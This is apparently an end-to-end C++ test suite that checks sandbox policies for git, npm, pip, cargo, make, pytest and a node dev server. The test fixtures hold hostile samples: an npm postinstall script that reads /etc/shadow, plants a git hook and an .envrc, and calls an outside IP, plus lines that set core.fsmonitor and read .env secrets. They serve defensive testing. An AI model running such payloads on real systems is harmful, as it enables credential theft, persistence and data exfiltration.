// The policies of examples/tools with the tools that they are for: each does its work under its
// policy and the defaults, and what it is not for fails, though the same works outside.
//
// The hosts that the policies name are one nginx outside, which has a certificate for all of them;
// the upstream DNS server is the test's own.

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sched.h>
#include <unistd.h>

#include <array>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "tests/e2e/egress_fixture.h"
#include "tests/e2e/upstream_dns.h"
#include "tests/support/require_feature.h"
#include "tests/support/subprocess.h"
#include "tests/support/temp_dir.h"
#include "tests/unit/broker/fake_server.h"

namespace palyra::tests {
namespace {

namespace fs = std::filesystem;
using testing::HasSubstr;

constexpr const char* kPath = "PATH=/usr/sbin:/usr/bin:/sbin:/bin";
constexpr std::array<std::string_view, 4> kHosts = {"github.com", "registry.npmjs.org", "pypi.org",
                                                    "files.pythonhosted.org"};

SpawnOptions At(const std::string& directory) {
  SpawnOptions options;
  options.environment = {{kPath, "HOME=/nonexistent", "LANG=C.UTF-8"}};
  options.directory = directory;
  return options;
}

void Must(const std::string& script, const std::string& directory) {
  const Ended ended = RunProgram({"/bin/sh", "-ec", script}, At(directory));
  if (ended.status != 0) throw std::runtime_error(Describe(ended));
}

broker::Messages Respond(const broker::Asked& asked) {
  const bool is_known = std::ranges::find(kHosts, asked.name) != kHosts.end();
  constexpr uint16_t kNameError = 3;
  broker::Message message = broker::ResponseTo(asked, is_known ? 0 : kNameError);
  if (is_known && asked.type == broker::kTypeA) {
    message.Answer(broker::WirePointer(broker::kToQuestion), asked.type, 300,
                   broker::WireV4(std::string(kPublicV4)));
  }
  return {message.bytes()};
}

// A wheel of one module, as pip takes it, and the page of an index that names it.
constexpr const char* kMakeWheel = R"(
import zipfile
with zipfile.ZipFile('thing-1.0-py3-none-any.whl', 'w') as wheel:
    wheel.writestr('thing.py', 'value = 42\n')
    info = 'thing-1.0.dist-info/'
    wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n')
    wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
    wheel.writestr(info + 'RECORD', '')
)";

// A package whose install script does what none should; where it can, it leaves a file.
constexpr const char* kMakePackage = R"(
mkdir package; cd package
printf '%s' '{"name":"thing","version":"1.0.0","scripts":{"postinstall":"sh install.sh"}}' >package.json
echo 'module.exports = 42;' >index.js
cat >install.sh <<'END'
cat /etc/shadow >stolen 2>/dev/null && touch "$INIT_CWD/read"
echo '#!/bin/sh' >"$INIT_CWD/.git/hooks/pre-commit"
echo command >"$INIT_CWD/.envrc"
curl -s --max-time 5 http://198.51.100.20/ && touch "$INIT_CWD/sent"
touch "$INIT_CWD/was-run"
END
cd ..; tar -czf thing-1.0.0.tgz package
sum=$(openssl dgst -sha512 -binary thing-1.0.0.tgz | base64 -w0)
mkdir -p thing/-; mv thing-1.0.0.tgz thing/-/
cat >thing/index.json <<END
{"name":"thing","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"thing",
"version":"1.0.0","hasInstallScript":true,"scripts":{"postinstall":"sh install.sh"},
"dist":{"integrity":"sha512-$sum",
"tarball":"https://registry.npmjs.org/thing/-/thing-1.0.0.tgz"}}}}
END
)";

// What the policies name, at kPublicV4.
class Hosts {
 public:
  Hosts() {
    std::string names;
    for (const std::string_view host : kHosts) {
      names.append(names.empty() ? "DNS:" : ",DNS:").append(host);
    }
    Must(
        "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=test -addext subjectAltName=" +
            names +
            " -keyout key.pem -out ca.pem 2>/dev/null; mkdir -p simple/thing; "
            "echo '<a href=\"https://files.pythonhosted.org/thing-1.0-py3-none-any.whl\">"
            "thing-1.0-py3-none-any.whl</a>' >simple/thing/index.html",
        path());
    Must("python3 - <<'END'" + std::string(kMakeWheel) + "END\n", path());
    Must(kMakePackage, path());
    Must(
        "git init -q -b main source; cd source; echo one >file; git add file; "
        "git -c user.name=T -c user.email=t@example.com commit -q -m one; cd ..; "
        "git clone -q --bare source repository.git; "
        "cd source; echo two >file; git -c user.name=T -c user.email=t@example.com commit -qam "
        "two; "
        "git push -q ../repository.git main; git -C ../repository.git update-server-info; "
        "chmod -R a+rX ..",
        path());
    SpawnOptions options = At(path());
    const int outside = TestNetwork::Get().outside();
    options.in_child = [outside] { return setns(outside, CLONE_NEWNET) == 0 ? 0 : 126; };
    const std::vector<std::string> command = {"/usr/sbin/nginx", "-p", path(), "-c",
                                              Configuration()};
    nginx_ = std::make_unique<Subprocess>(command, options);
    Must(
        "curl -sS --fail --retry 30 --retry-delay 1 --retry-connrefused --cacert ca.pem -o "
        "/dev/null --resolve github.com:443:203.0.112.5 https://github.com/repository.git/HEAD",
        path());
  }

  [[nodiscard]] const std::string& path() const { return directory_.path(); }
  [[nodiscard]] std::string Log() const { return ReadText(directory_.Path("access.log")); }

 private:
  [[nodiscard]] std::string Configuration() const {
    return directory_.Write(
        "nginx.conf", "daemon off; master_process off; user root; error_log stderr; pid " +
                          directory_.Path("nginx.pid") +
                          ";\nevents {}\nhttp {\ntypes { text/html html; application/json json; }\n"
                          "log_format named '$host $uri';\nserver { listen " +
                          std::string(kPublicV4) +
                          ":443 ssl; ssl_certificate ca.pem; ssl_certificate_key key.pem; root " +
                          path() +
                          "; index index.html index.json; absolute_redirect off; "
                          "location = /thing { try_files /thing/index.json =404; } access_log " +
                          directory_.Path("access.log") + " named; }\n}\n");
  }

  TempDir directory_;
  std::unique_ptr<Subprocess> nginx_;
};

// The tool's user's, and not below /tmp, which the defaults permit to change.
class Workspace {
 public:
  Workspace() : path_("/srv/palyra-test-XXXXXX") {
    if (mkdtemp(path_.data()) == nullptr) throw std::runtime_error("mkdtemp");
  }
  Workspace(const Workspace&) = delete;
  Workspace& operator=(const Workspace&) = delete;
  ~Workspace() {
    std::error_code failure;
    fs::remove_all(path_, failure);
  }

  // Runs a script in it that makes its files, and gives them to the tool's user.
  void Fill(const std::string& script) const {
    Must(script + "\nchown -R " + std::string(kToolUser) + ":" + std::string(kToolUser) + " .",
         path_);
  }

  [[nodiscard]] const std::string& path() const { return path_; }
  [[nodiscard]] bool Has(const std::string& name) const { return fs::exists(path_ + '/' + name); }
  [[nodiscard]] std::string Read(const std::string& name) const {
    return ReadText(path_ + '/' + name);
  }

 private:
  std::string path_;
};

Feature Installed(const std::string& program) {
  Feature feature{.name = program, .since = {}, .state = {}};
  if (access(program.c_str(), X_OK) != 0) {
    feature.state = Fail(ErrorCode::kNotFound, "it is not installed; run tools/setup");
  }
  return feature;
}

class ExampleTools : public EgressTest {
 protected:
  static void SetUpTestSuite() {
    if (JudgeHere(Root()) != Requirement::kMet) return;
    TestNetwork::Get();
    UseUpstreamDns();
  }

  void SetUp() override {
    EgressTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    PALYRA_REQUIRE_FEATURE(Installed("/usr/sbin/nginx"));
    dns_ = std::make_unique<broker::FakeServer>(Respond, *broker::Address::Parse(kUpstreamDns));
  }

  static const Hosts& TheHosts() {
    static const Hosts kServers;
    return kServers;
  }

  static std::vector<std::string> InShell(const std::string& script) {
    return {"/bin/sh", "-c", script};
  }

  // With the defaults, as far as this machine can hold them.
  static void UsePolicy(PalyraRun& run, const std::string& name) {
    run.Policy(ReadText(std::string(PALYRA_SOURCE_DIR) + "/examples/tools/" + name))
        .Option("--defaults")
        .Option("--unheld", "file-patterns");
  }

  [[nodiscard]] Ended Shell(const std::string& policy, const std::string& script) const {
    PalyraRun run;
    UsePolicy(run, policy);
    return run.Run(InShell(script), At(workspace_.path()));
  }

  // What the run must not do, and the tool's user can.
  void ExpectOnlyOutside(const std::string& policy, const std::string& script) const {
    const Ended inside = Shell(policy, "echo begun; " + script);
    EXPECT_NE(inside.status, 0) << script << '\n' << Describe(inside);
    EXPECT_THAT(inside.output, HasSubstr("begun")) << Describe(inside);
    const Ended outside = PalyraRun().Run(InShell(script), At(workspace_.path()));
    EXPECT_EQ(outside.status, 0) << "the control: " << Describe(outside);
  }

  Workspace workspace_;
  TempDir scratch_;
  std::unique_ptr<broker::FakeServer> dns_;
};

TEST_F(ExampleTools, Git) {
  workspace_.Fill("git clone -q " + TheHosts().path() +
                  "/repository.git .; git reset -q --hard HEAD~1; "
                  "git update-ref -d refs/remotes/origin/main; "
                  "git remote set-url origin https://github.com/repository.git");
  const std::string git = "git -c http.sslCAInfo=" + TheHosts().path() +
                          "/ca.pem -c user.name=T -c user.email=t@example.com ";
  const Ended ended = Shell(
      "git.cedar", git + "fetch -q origin && " + git +
                       "merge -q --ff-only origin/main && echo mine >new && " + git + "add -A && " +
                       git + "commit -q -m mine && " + git + "status --short && cat file");
  EXPECT_EQ(ended.status, 0) << Describe(ended);
  EXPECT_EQ(ended.output, "two\n") << "and nothing is untracked";
  EXPECT_THAT(TheHosts().Log(), HasSubstr("github.com /repository.git/info/refs"));
  ExpectOnlyOutside("git.cedar", "echo '#!/bin/sh' >.git/hooks/post-merge");
  ExpectOnlyOutside("git.cedar", "git config core.fsmonitor ./evil");
}

TEST_F(ExampleTools, NpmInstall) {
  PALYRA_REQUIRE_FEATURE(Installed("/usr/bin/npm"));
  workspace_.Fill("git init -q; echo '{\"name\":\"app\",\"version\":\"1.0.0\"}' >package.json");
  Observer().Start();
  const Ended ended =
      Shell("npm-install.cedar",
            "export npm_config_cache=" + std::string("/tmp/npm-$$") +
                " npm_config_update_notifier=false npm_config_cafile=" + TheHosts().path() +
                "/ca.pem; npm install --no-audit --no-fund thing; status=$?; "
                "rm -rf $npm_config_cache; exit $status");
  EXPECT_EQ(ended.status, 0) << Describe(ended);
  EXPECT_THAT(workspace_.Read("package.json"), HasSubstr("thing"));
  EXPECT_TRUE(workspace_.Has("node_modules/thing/index.js")) << Describe(ended);
  EXPECT_THAT(TheHosts().Log(), HasSubstr("registry.npmjs.org /thing/-/thing-1.0.0.tgz"));
  EXPECT_TRUE(workspace_.Has("was-run")) << "its install script was not: " << Describe(ended);
  for (const char* const trace : {"read", "sent", ".git/hooks/pre-commit", ".envrc"}) {
    EXPECT_FALSE(workspace_.Has(trace)) << trace;
  }
  ExpectUntouched(kDeniedV4);
}

TEST_F(ExampleTools, PipInstall) {
  PALYRA_REQUIRE_FEATURE(Installed("/usr/bin/python3"));
  workspace_.Fill("/usr/bin/python3 -m venv .venv; echo thing==1.0 >requirements.txt");
  const Ended ended =
      Shell("pip-install.cedar", "PIP_CERT=" + TheHosts().path() +
                                     "/ca.pem .venv/bin/pip install -q --no-cache-dir "
                                     "--disable-pip-version-check -r requirements.txt && "
                                     ".venv/bin/python -c 'import thing; print(thing.value)'");
  EXPECT_EQ(ended.status, 0) << Describe(ended);
  EXPECT_EQ(ended.output, "42\n") << Describe(ended);
  EXPECT_THAT(TheHosts().Log(), HasSubstr("files.pythonhosted.org /thing-1.0"));
  ExpectOnlyOutside("pip-install.cedar", "mkdir .vscode");
}

TEST_F(ExampleTools, CargoBuild) {
  PALYRA_REQUIRE_FEATURE(Installed("/usr/bin/cargo"));
  workspace_.Fill(R"(mkdir -p src part/src
printf '[package]\nname="app"\nversion="1.0.0"\nedition="2021"\n[dependencies]\npart={path="part"}\n' >Cargo.toml
printf '[package]\nname="part"\nversion="1.0.0"\nedition="2021"\nbuild="build.rs"\n' >part/Cargo.toml
echo 'include!(concat!(env!("OUT_DIR"), "/value.rs"));' >part/src/lib.rs
cat >part/build.rs <<'END'
fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::write(out + "/value.rs", "pub const VALUE: u32 = 42;").unwrap();
    assert!(std::fs::read("/etc/shadow").is_err());
}
END
echo 'fn main() { println!("{}", part::VALUE); }' >src/main.rs)");
  const Ended ended = Shell("cargo-build.cedar",
                            "export CARGO_HOME=/tmp/cargo-$$; "
                            "cargo build -q --offline; status=$?; "
                            "rm -rf $CARGO_HOME; "
                            "[ $status = 0 ] && target/debug/app");
  EXPECT_EQ(ended.status, 0) << Describe(ended);
  EXPECT_EQ(ended.output, "42\n");
  ExpectOnlyOutside("cargo-build.cedar", "mkdir .idea");
}

TEST_F(ExampleTools, Make) {
  workspace_.Fill(R"(mkdir build
echo 'int main(void) { return 0; }' >main.c
printf 'build/app: main.c\n\t$(CC) -o $@ $<\n' >Makefile)");
  const Ended ended = Shell("make.cedar", "make -s && build/app && echo built");
  EXPECT_EQ(ended.status, 0) << Describe(ended);
  EXPECT_EQ(ended.output, "built\n");
  ExpectOnlyOutside("make.cedar", "echo '#error' >>main.c");
  ExpectOnlyOutside("make.cedar", "touch new");
}

TEST_F(ExampleTools, Pytest) {
  PALYRA_REQUIRE_FEATURE(Installed("/usr/bin/pytest-3"));
  workspace_.Fill(R"(echo TOKEN=secret >.env
cat >test_app.py <<'END'
import http.server, pathlib, threading, urllib.request

def test_server():
    server = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f'http://127.0.0.1:{server.server_port}/test_app.py'
    assert urllib.request.urlopen(url, timeout=10).status == 200

def test_writes(tmp_path):
    (tmp_path / 'file').write_text('x')
    pathlib.Path('result').write_text('x')
END)");
  const Ended ended = Shell("pytest.cedar", "/usr/bin/pytest-3 -q");
  EXPECT_EQ(ended.status, 0) << Describe(ended);
  EXPECT_THAT(ended.output, HasSubstr("2 passed")) << Describe(ended);
  EXPECT_TRUE(workspace_.Has("result"));
  ExpectOnlyOutside("pytest.cedar", "cat .env");
  ExpectOnlyOutside("pytest.cedar", "mkdir .vscode");
}

TEST_F(ExampleTools, NodeDevServer) {
  PALYRA_REQUIRE_FEATURE(Installed("/usr/bin/node"));
  workspace_.Fill(R"(mkdir dist
cat >server.js <<'END'
const fs = require('fs');
fs.writeFileSync('dist/bundle.js', 'built');
try { fs.writeFileSync('server.js', 'changed'); } catch (error) { console.log(error.code); }
require('http').createServer((_, answer) => answer.end(fs.readFileSync('dist/bundle.js')))
    .listen(3000, '127.0.0.1', () => console.log('ready'));
END)");
  PalyraRun run;
  UsePolicy(run, "node-dev-server.cedar");
  Subprocess server(run.CommandLine(InShell("exec node server.js")), At(workspace_.path()));
  ASSERT_TRUE(server.WaitForOutput("ready"));
  const Ended asked =
      RunProgram(InShell("curl -sS --noproxy '*' --max-time 20 http://127.0.0.1:3000/"),
                 At(workspace_.path()));
  EXPECT_EQ(asked.output, "built") << Describe(asked);
  server.Signal(SIGTERM);
  const Ended ended = server.Wait();
  EXPECT_THAT(workspace_.Read("server.js"), HasSubstr("require('http')")) << Describe(ended);
  ExpectOnlyOutside("node-dev-server.cedar", "touch server.js");
}

}  // namespace
}  // namespace palyra::tests
